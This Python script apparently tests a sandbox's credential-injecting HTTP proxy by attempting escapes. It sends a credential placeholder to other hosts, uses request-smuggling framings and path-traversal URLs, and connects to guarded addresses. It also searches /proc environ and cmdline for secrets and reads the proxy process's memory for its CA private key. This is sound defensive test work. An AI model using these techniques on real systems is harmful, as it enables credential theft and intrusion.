"""Allowlist mode with network.credentials, network.http and approvals: get around what the proxy
reads. The first argument names the attack; HOST:PORT arguments are the scene's servers.

- `elsewhere PLAIN TLS`: send the credential's placeholder (the variable EVIDENCE_TOKEN holds
  it) to another host, over plain HTTP and intercepted HTTPS: in a header, the query, a body.
- `hidden API PLAIN TLS`: the placeholder in a redirect the client follows, in a host name
  (CONNECT, plain HTTP), and in a body split between two writes and between two chunks.
- `framing API PLAIN`: requests whose framing two parsers read differently (Content-Length
  beside Transfer-Encoding, two lengths, a coding before chunked), the root of smuggling.
- `rules API PLAIN`: methods and paths network.http does not allow, HTTPS and plain HTTP.
- `guarded TARGET...`: CONNECT (`connect:HOST:PORT`) or plain GET (`get:HOST:PORT`) to names
  that resolve to guarded addresses, allowed, approved or credentialed.
- `approved HOST:PORT TARGET...`: a request the caller approves (it must work), then write
  each target outside the roots.
- `secret PROBES ROOT...`: look for the credentials' secrets (PROBES: comma-separated
  fragments, each reversed, so this program never holds one whole) in the environment,
  every /proc/<pid>/environ and cmdline it can read, and the files below each ROOT (and,
  sandboxed, the CA's directory).
- `ca-key PID ROOT...`: look for the launch CA's private key in the CA's directory, the files
  below each ROOT (and the CA's), its own descriptors and every /proc/<pid> it can
  read; and read the memory, environment and descriptors of PID, the process that runs the
  proxy and holds the key.

A request is refused when the proxy answers 4xx (`HTTP_403`: the code it gave); an answer of
the server (2xx, 3xx) is an escape. A secret or key found anywhere is an escape; where nothing
is found the search is a note, but for the place its row names as refused. (Attempt names
never hold ": ", which ends a name in the report lines.)
"""

import os
import socket
import ssl
import struct
import time
from urllib.parse import urlsplit

from _common import ARGS, CannotTry, Refused, attempt, note, read, write

KEY_MARK = b"PRIVATE" + b" KEY"  # (split: this file holds no key marker for a search to find)


def placeholder():
    token = os.environ.get("EVIDENCE_TOKEN", "")
    if not token.startswith("stockade-cred-"):
        raise CannotTry("no credential placeholder in EVIDENCE_TOKEN")
    return token


def read_head(sock):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(1)
        if not chunk:
            break
        data += chunk
    return data


def read_all(sock):
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
    except (OSError, ssl.SSLError):
        pass
    return data


def answered(reply):
    """The status line of a server's answer (2xx, 3xx); Refused with the proxy's code."""
    status = reply.split(b"\r\n", 1)[0].decode("latin-1")
    parts = status.split()
    if len(parts) < 2 or not parts[1].isdigit():
        raise Refused("NO_ANSWER", status or "no answer")
    if parts[1][0] not in "23":
        raise Refused(f"HTTP_{parts[1]}", status)
    return status


def proxy_socket():
    proxy = os.environ.get("HTTP_PROXY")
    if not proxy:
        raise CannotTry("no proxy in the environment")
    where = urlsplit(proxy)
    sock = socket.create_connection((where.hostname, where.port), timeout=20)
    # (closed with a reset, leaving no TIME_WAIT on the proxy's port: with the network switched
    # off, a test's weakening, that port is the host's, and the next row's proxy binds it)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return sock


def connect(target):
    """A socket through the proxy's CONNECT to `target`; Refused with its code."""
    sock = proxy_socket()
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    try:
        status = answered(read_head(sock))
    except Refused:
        sock.close()
        raise
    note(f"proxy answered CONNECT {target}", status)
    return sock


def send(target, pieces, tls):
    """`pieces` (a request, written one piece after another) to `target` through the proxy:
    over HTTPS (CONNECT, then TLS trusting the launch's CA) or plain; the answer's status."""
    if tls:
        sock = connect(target)
        context = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
        sock = context.wrap_socket(sock, server_hostname=target.rpartition(":")[0])
    else:
        sock = proxy_socket()
    with sock:
        for i, piece in enumerate(pieces):
            if i:
                time.sleep(0.5)  # (the proxy reads each piece alone)
            sock.sendall(piece)
        return answered(read_all(sock))


def request(method, target, path, tls, headers=(), body=b"", framing=None):
    """One request's bytes: origin form over HTTPS, absolute form to the proxy otherwise; a
    body framed by its length unless `framing` (header lines) says otherwise."""
    line = path if tls else f"http://{target}{path}"
    lines = [f"{method} {line} HTTP/1.1", f"Host: {target}", *headers]
    if framing is not None:
        lines += framing
    elif body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def chunked(*pieces):
    return b"".join(b"%x\r\n%b\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"


def elsewhere(plain, tls):
    token = placeholder()
    for target, secure in ((plain, False), (tls, True)):
        scheme = "https" if secure else "http"
        attempt(f"the placeholder in a header, {scheme} {target}", lambda t=target, s=secure:
                send(t, [request("GET", t, "/ok/h", s, [f"X-Token: {token}"])], s))
        attempt(f"the placeholder in the query, {scheme} {target}", lambda t=target, s=secure:
                send(t, [request("GET", t, f"/ok/q?t={token}", s)], s))
        attempt(f"the placeholder in the body, {scheme} {target}", lambda t=target, s=secure:
                send(t, [request("POST", t, "/ok/b", s, body=f"t={token}".encode())], s))


def hidden(api, plain, tls):
    token = placeholder()
    follow = f"http://{plain}/ok/redirected"

    def redirected():
        # the credential's own host answers a redirect elsewhere, and the client follows it
        # with the headers it had (as urllib does): the placeholder with them
        bearer = [f"Authorization: Bearer {token}"]
        status = send(api, [request("GET", api, f"/repos/org/r?to={follow}", True, bearer)],
                      True)
        if " 30" not in status:
            raise CannotTry(f"the credential's host did not redirect: {status}")
        return send(plain, [request("GET", plain, urlsplit(follow).path, False, bearer)],
                    False)

    attempt(f"follow a redirect of {api} to {plain} with the placeholder", redirected)
    name, named = f"{token}.{tls}", f"{token}.{plain}"
    attempt(f"the placeholder in a host name, CONNECT <placeholder>.{tls}",
            lambda: connect(name).close() or "200")
    attempt(f"the placeholder in a host name, http <placeholder>.{plain}",
            lambda: send(named, [request("GET", named, "/ok/n", False)], False))
    padding, half = b"x" * 70000, len(token) // 2
    body = padding + token.encode()
    attempt(f"the placeholder split between two writes of a body, http {plain}",
            lambda: send(plain, [request("POST", plain, "/ok/w", False, body=body)[:-half],
                                 body[-half:]], False))
    attempt(f"the placeholder split between two chunks of a body, https {tls}",
            lambda: send(tls, [request("POST", tls, "/ok/c", True, framing=[
                "Transfer-Encoding: chunked"], body=chunked(token[:half].encode(),
                                                            token[half:].encode()))], True))


FRAMINGS = {
    "Content-Length beside Transfer-Encoding": (
        ["Content-Length: 5", "Transfer-Encoding: chunked"], b"0\r\n\r\n"),
    "two Content-Length values": (["Content-Length: 5", "Content-Length: 6"], b"hello!"),
    "a coding before chunked": (["Transfer-Encoding: gzip, chunked"], b"0\r\n\r\n"),
}


def framing(api, plain):
    for target, secure, path in ((api, True, "/repos/org/f"), (plain, False, "/ok/f")):
        scheme = "https" if secure else "http"
        for what, (lines, body) in FRAMINGS.items():
            attempt(f"{what}, {scheme} {target}", lambda t=target, s=secure, p=path, f=lines,
                    b=body: send(t, [request("POST" if not s else "GET", t, p, s, body=b,
                                             framing=f)], s))


RULES = {"api": (("DELETE", "/repos/org/x"), ("POST", "/repos/org/x"), ("GET", "/user/keys"),
                 ("GET", "/repos/org/../../user/keys"), ("GET", "/repos/org%2f..%2fx")),
         "plain": (("DELETE", "/ok/x"), ("GET", "/admin"), ("GET", "/ok/%2e%2e/admin"))}


def rules(api, plain):
    for key, target, secure in (("api", api, True), ("plain", plain, False)):
        scheme = "https" if secure else "http"
        for method, path in RULES[key]:
            attempt(f"{method} {path}, {scheme} {target}", lambda t=target, s=secure,
                    m=method, p=path: send(t, [request(m, t, p, s)], s))


def guarded(targets):
    for item in targets:
        how, _, target = item.partition(":")
        if how == "connect":
            attempt(f"CONNECT {target}", lambda t=target: connect(t).close() or "200")
        else:
            attempt(f"http {target}", lambda t=target: send(t, [request("GET", t, "/", False)],
                                                           False))


def approved(target, paths):
    try:
        status = send(target, [request("GET", target, "/approved", False)], False)
    except OSError as exc:
        print(f"approved request to {target}: error not approved ({exc})", flush=True)
        return
    note(f"approved request to {target}", status)
    for path in paths:
        attempt(f"write {path}", lambda p=path: write(p))
        attempt(f"unlink {path}", lambda p=path: os.unlink(p))


def files(roots):
    for root in roots:
        if os.path.isfile(root):
            yield root
        for where, _, names in os.walk(root):
            for name in names:
                yield os.path.join(where, name)


def holding(paths, needles):
    """(the paths whose content holds one of `needles`, how many were read, unreadable)."""
    found, count, unreadable = [], 0, 0
    for path in paths:
        try:
            with open(path, "rb") as f:
                data = f.read(8 << 20)
        except OSError:
            unreadable += 1
            continue
        count += 1
        if any(needle in data for needle in needles):
            found.append(path)
    return found, count, unreadable


def processes():
    return sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int)


def hunt(name, found, where):
    """A search whose finding is an escape and whose failure shows nothing of a mechanism
    (it would fail alike anywhere the thing is absent): ALLOWED, or a note."""
    if found:
        print(f"{name}: ALLOWED found in {', '.join(found[:3])}", flush=True)
    else:
        note(name, f"nothing in {where}")


def searched(name, roots, needles):
    found, count, unreadable = holding(files(roots), needles)
    if found:
        return f"found in {', '.join(found[:3])}"
    note(name, f"{count} files read, {unreadable} unreadable, below {' '.join(roots)}")
    raise Refused("ABSENT", "not found")


def ca_directory():
    """The launch CA's directory where the command runs with a credential (a placeholder in
    its environment), else None (on the host, SSL_CERT_FILE may name the system's)."""
    if not os.environ.get("EVIDENCE_TOKEN", "").startswith("stockade-cred-"):
        return None
    return os.path.dirname(os.environ["SSL_CERT_FILE"])


def sandboxed(roots):
    """`roots`, and where the command runs with a credential, the CA's directory."""
    directory = ca_directory()
    return [*roots, directory] if directory else list(roots)


def secret(probes, roots):
    roots = sandboxed(roots)
    needles = [probe[::-1].encode() for probe in probes.split(",")]
    hunt("the secrets in os.environ", [n for n, v in os.environ.items()
                                       if any(x in v.encode() for x in needles)],
         f"{len(os.environ)} variables")
    places = [f"/proc/{pid}/{what}" for pid in processes() for what in ("environ", "cmdline")]
    found, count, _ = holding(places, needles)
    hunt("the secrets in /proc/*/environ and cmdline", found, f"{count} readable of "
         f"{len(places)}")
    attempt("the secrets in the files of the view", lambda: searched(
        "the secrets in the files of the view", roots, needles))


def ca_key(pid, roots):
    directory = ca_directory()
    if directory:
        extra = sorted(set(os.listdir(directory)) - {"ca.pem", "bundle.pem"})
        hunt("a file beside the launch CA's certificate", [os.path.join(directory, n)
                                                           for n in extra], directory)
    roots = sandboxed(roots)
    found, count, unreadable = holding(files(roots), [KEY_MARK])
    hunt("a private key in the files of the view", found,
         f"{count} files ({unreadable} unreadable) below {' '.join(roots)}")
    own = [f"/proc/self/fd/{n}" for n in os.listdir("/proc/self/fd") if int(n) > 2]
    found, count, _ = holding([path for path in own if os.path.isfile(path)], [KEY_MARK])
    hunt("a private key in its descriptors", found, f"{count} of {len(own)} descriptors")
    places = [f"/proc/{p}/{w}" for p in processes() for w in ("environ", "cmdline")]
    found, count, _ = holding(places, [KEY_MARK])
    hunt("a private key in /proc/*/environ and cmdline", found, f"{count} readable")
    attempt(f"read the memory of the proxy's process {pid}", lambda: memory(pid))
    attempt(f"read the environment of the proxy's process {pid}",
            lambda: f"{len(read(f'/proc/{pid}/environ'))} bytes")
    attempt(f"list the descriptors of the proxy's process {pid}",
            lambda: f"{len(os.listdir(f'/proc/{pid}/fd'))} descriptors")


def memory(pid):
    """Read the first readable mapping of `pid`'s memory (the CA's key lies in it)."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "r" not in perms:
                continue
            start = int(span.split("-")[0], 16)
            try:
                mem.seek(start)
                return f"{len(mem.read(4096))} bytes at {span}"
            except OSError:
                continue
    raise Refused("NOTHING_READ", "no mapping could be read")


MODES = {"elsewhere": elsewhere, "hidden": hidden, "framing": framing, "rules": rules,
         "guarded": lambda *targets: guarded(targets),
         "approved": lambda target, *paths: approved(target, paths),
         "secret": lambda probes, *roots: secret(probes, roots),
         "ca-key": lambda pid, *roots: ca_key(pid, roots)}

MODES[ARGS[0]](*ARGS[1:])
